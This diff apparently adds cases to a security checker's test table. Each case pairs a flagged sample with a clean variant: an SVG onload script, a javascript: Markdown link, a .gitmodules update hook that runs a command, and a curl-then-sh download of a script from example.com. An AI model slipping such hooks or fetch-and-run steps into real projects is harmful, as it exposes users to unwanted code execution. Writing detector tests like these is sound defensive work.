@@ -154,6 +154,11 @@ COUPONS = "def coupons(id):\n    return pay(id)\n"
 
 
 OWN: dict[str, Case] = {
+    "security.script-in-image": text("a.svg", '<svg onload="go()"></svg>\n', "<svg></svg>\n"),
+    "security.script-in-prose": text("a.md", "[a](javascript:go())\n", "`[a](javascript:go())`\n"),
+    "security.run-setting": text(
+        ".gitmodules", '[submodule "a"]\n\tupdate = !make\n', '[submodule "a"]\n\tupdate = rebase\n'
+    ),
     "security.foreign-script": text(
         "a.sh", "curl -O https://example.com/i.sh\nsh i.sh\n", "curl -O https://get.helm.sh/i.sh\nsh i.sh\n"
     ),
